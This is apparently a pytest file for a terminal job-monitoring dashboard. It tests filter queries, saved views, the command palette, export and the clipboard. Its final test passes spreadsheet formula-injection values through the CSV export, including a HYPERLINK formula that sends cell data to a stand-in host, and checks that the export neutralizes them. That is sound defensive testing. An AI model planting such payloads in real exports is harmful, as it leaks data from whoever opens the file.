"""Queries typed in the filter line, saved views from the palette, export and copy, in the
real app against the simulator."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path
from typing import Any

from textual.command import CommandPalette
from textual.pilot import Pilot
from textual.widgets import Input, OptionList, Static

from resync_tui.feeds.runtime import build_runtime
from resync_tui.hwa.simulator import Simulator
from resync_tui.model.export import csv_lines
from resync_tui.model.job_row import JobRow
from resync_tui.settings import ViewSettings
from resync_tui.ui.app import ResyncApp
from resync_tui.ui.screens.export import ExportRequest, ExportScreen, write_export
from tests.ui.dashboard_support import (
    DEADLINE,
    frozen_clock,
    make_app,
    make_settings,
    ready,
    sim,
)

__all__ = ["sim"]  # the fixture, used by name


def _ids(app: ResyncApp) -> list[str]:
    return [row.job_id for row in app.view.rows_in(0, len(app.view))]


def _filter_line(app: ResyncApp) -> str:
    return str(app.query_one("#jobs-filter-line", Static).render())


async def _until(pilot: Pilot[Any], check: Any) -> None:
    """Let the app work until ``check()`` holds, within the deadline (never a hang)."""
    async def wait() -> None:
        while not check():
            await pilot.pause(0.02)

    await asyncio.wait_for(wait(), DEADLINE)


async def test_typed_terms_filter_and_a_bad_term_shows_its_error_and_every_job(
        sim: Simulator, redis_url: str) -> None:
    app = make_app(sim.base_url, redis_url)
    async with app.run_test(size=(120, 30)) as pilot:
        await ready(app)
        total = app.view.total
        everything = [app.view.row_at(i) for i in range(total)]
        await pilot.press("slash", *"group=failed ws=@_@")
        await pilot.pause()
        failed = {"ABEND", "FAIL", "ERROR", "ABENP"}
        expected = sorted(r.job_id for r in everything if r.status in failed
                          and "_" in r.workstation)
        assert expected and sorted(_ids(app)) == expected
        assert f"{len(expected):,} of {total:,} jobs" in _filter_line(app)
        await pilot.press(*" colour=red")
        await pilot.pause()
        line = _filter_line(app)
        assert line.startswith("⚠ unknown term 'colour' — known: status ws stream job "
                               "folder rc group")
        assert len(app.view) == total  # nothing filtered away while the error shows
        assert f"{total:,} of {total:,} jobs" in line
        await pilot.press(*(["backspace"] * len(" colour=red")), "space", "!", *"rc=0")
        await pilot.pause()
        assert "⚠" not in _filter_line(app)
        assert sorted(_ids(app)) == sorted(r.job_id for r in everything
                                           if r.status in failed and "_" in r.workstation
                                           and r.return_code != 0)


async def test_a_saved_view_from_settings_is_applied_from_the_palette(
        sim: Simulator, redis_url: str) -> None:
    base = make_settings(sim.base_url, redis_url)
    settings = base.replace(views={"late-payroll": ViewSettings(query="!status=SUCC job=@_@",
                                                                 sort="-job")})
    app = ResyncApp(build_runtime(settings, clock=frozen_clock), settings)
    async with app.run_test(size=(120, 30)) as pilot:
        await ready(app)
        everything = [app.view.row_at(i) for i in range(app.view.total)]
        await pilot.press("ctrl+p")
        await pilot.pause()
        await pilot.press(*"View: late")
        await _until(pilot, lambda: app.screen.query(OptionList).results()
                     and app.screen.query_one(OptionList).option_count > 0)
        await pilot.press("enter")
        await _until(pilot, lambda: not isinstance(app.screen, CommandPalette))
        await pilot.pause()
        expected = sorted((r for r in everything if r.status != "SUCC" and "_" in r.job),
                          key=lambda r: (r.job.lower(), r.job_id), reverse=True)
        assert [r.job for r in app.view.rows_in(0, len(app.view))] == [r.job for r in expected]
        assert app.query_one("#jobs-filter-input", Input).value == "!status=SUCC job=@_@"
        assert (app.view.sort_column, app.view.descending) == ("job", True)


async def _palette_options(pilot: Pilot[Any], app: ResyncApp, typed: str) -> list[str]:
    await pilot.press("ctrl+p")
    await pilot.pause()
    await pilot.press(*typed)

    def options() -> list[str]:
        lists = list(app.screen.query(OptionList).results())
        if not lists or lists[0].option_count == 0:
            return []
        return [str(lists[0].get_option_at_index(i).prompt)
                for i in range(lists[0].option_count)]

    await _until(pilot, lambda: bool(options()))
    await pilot.pause(0.1)  # the palette may still be adding matches of other providers
    return options()


async def test_the_palette_finds_failed_jobs_by_fail_and_workstations_by_work(
        sim: Simulator, redis_url: str) -> None:
    app = make_app(sim.base_url, redis_url)
    async with app.run_test(size=(80, 24)) as pilot:
        await ready(app)
        found = await _palette_options(pilot, app, "fail")
        assert any("failed jobs" in prompt for prompt in found), found
        await pilot.press("enter")  # the best match: the failed-jobs filter
        await _until(pilot, lambda: not isinstance(app.screen, CommandPalette))
        await pilot.pause()
        assert app.view.group_filter == "failed"
        assert {r.status for r in app.view.rows_in(0, len(app.view))} <= {
            "ABEND", "FAIL", "ERROR", "ABENP"}
        assert "status: failed" in _filter_line(app)
        found = await _palette_options(pilot, app, "work")
        assert any("workstations pane" in prompt for prompt in found), found
        await pilot.press("enter")
        await _until(pilot, lambda: not isinstance(app.screen, CommandPalette))
        await pilot.pause()
        assert app.dashboard.active_pane == "workstations"


async def _export(pilot: Pilot[Any], app: ResyncApp, path: Path, fmt: str) -> None:
    await pilot.press("e")
    await _until(pilot, lambda: isinstance(app.screen, ExportScreen))
    if fmt == "json":
        app.screen.query_one("#export-json").value = True  # type: ignore[attr-defined]
        await pilot.pause()
    field = app.screen.query_one("#export-path", Input)
    assert field.value.startswith("resync-jobs-") and field.value.endswith(f".{fmt}")
    field.value = str(path)
    field.focus()
    await pilot.press("enter")
    await _until(pilot, lambda: app.dashboard.jobs.last_export == path)


async def test_export_writes_exactly_the_view_after_filter_and_sort(
        sim: Simulator, redis_url: str, tmp_path: Path) -> None:
    app = make_app(sim.base_url, redis_url)
    async with app.run_test(size=(80, 24)) as pilot:
        await ready(app)
        await pilot.press("slash", *"!status=HOLD", "enter", "s", "S")  # stream, reversed
        await pilot.pause()
        shown = app.view.rows_in(0, len(app.view))
        assert 20 < len(shown) < app.view.total  # more rows than the screen holds
        await _export(pilot, app, tmp_path / "view.csv", "csv")
        rows = list(csv.DictReader(io.StringIO((tmp_path / "view.csv").read_text())))
        assert [(r["id"], r["name"], r["stream"], r["workstation"], r["status"], r["rc"])
                for r in rows] == [
            (j.job_id, j.job, j.stream, j.workstation, j.status,
             "" if j.return_code is None else str(j.return_code)) for j in shown]
        await _export(pilot, app, tmp_path / "view.json", "json")
        records = [json.loads(line) for line in
                   (tmp_path / "view.json").read_text().splitlines()]
        assert [(r["id"], r["status"], r["rc"]) for r in records] == [
            (j.job_id, j.status, j.return_code) for j in shown]
        assert sorted(p.name for p in tmp_path.iterdir()) == [  # noqa: ASYNC240
            "view.csv", "view.json"]  # no temporary file left behind


async def test_c_copies_the_cursor_jobs_id_to_the_clipboard(
        sim: Simulator, redis_url: str) -> None:
    app = make_app(sim.base_url, redis_url)
    async with app.run_test(size=(80, 24)) as pilot:
        await ready(app)
        await pilot.press("down", "down", "c")
        await pilot.pause()
        assert app.clipboard == app.view.row_at(2).job_id
        assert app.dashboard.jobs.table.cursor_job_id == app.view.row_at(2).job_id


def test_csv_export_neutralizes_formulas_from_the_engine(tmp_path: Path) -> None:
    hostile = [
        JobRow("=1+1", job='=HYPERLINK("http://x.example/?"&A1,"click")', stream="+SUM(A1)",
               workstation="-2+3", folder="@cmd", status="ABEND", return_code=-1),
        JobRow("id2", job="\tTAB", stream="\rCR", workstation="WS\x1b[31m", status="SUCC"),
    ]
    target = write_export(hostile, ExportRequest("csv", tmp_path / "x.csv"))
    header, first, second = list(csv.reader(io.StringIO(target.read_text())))
    assert header[:3] == ["id", "name", "stream"]
    assert first[:6] == ["'=1+1", "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
                         "'+SUM(A1)", "'-2+3", "'@cmd", "ABEND"]
    assert first[6] == "-1"  # a number stays a number
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r")
                   for cell in first[:6] + second)
    assert "\x1b" not in target.read_text()
    assert "".join(csv_lines(hostile)) == target.read_bytes().decode()
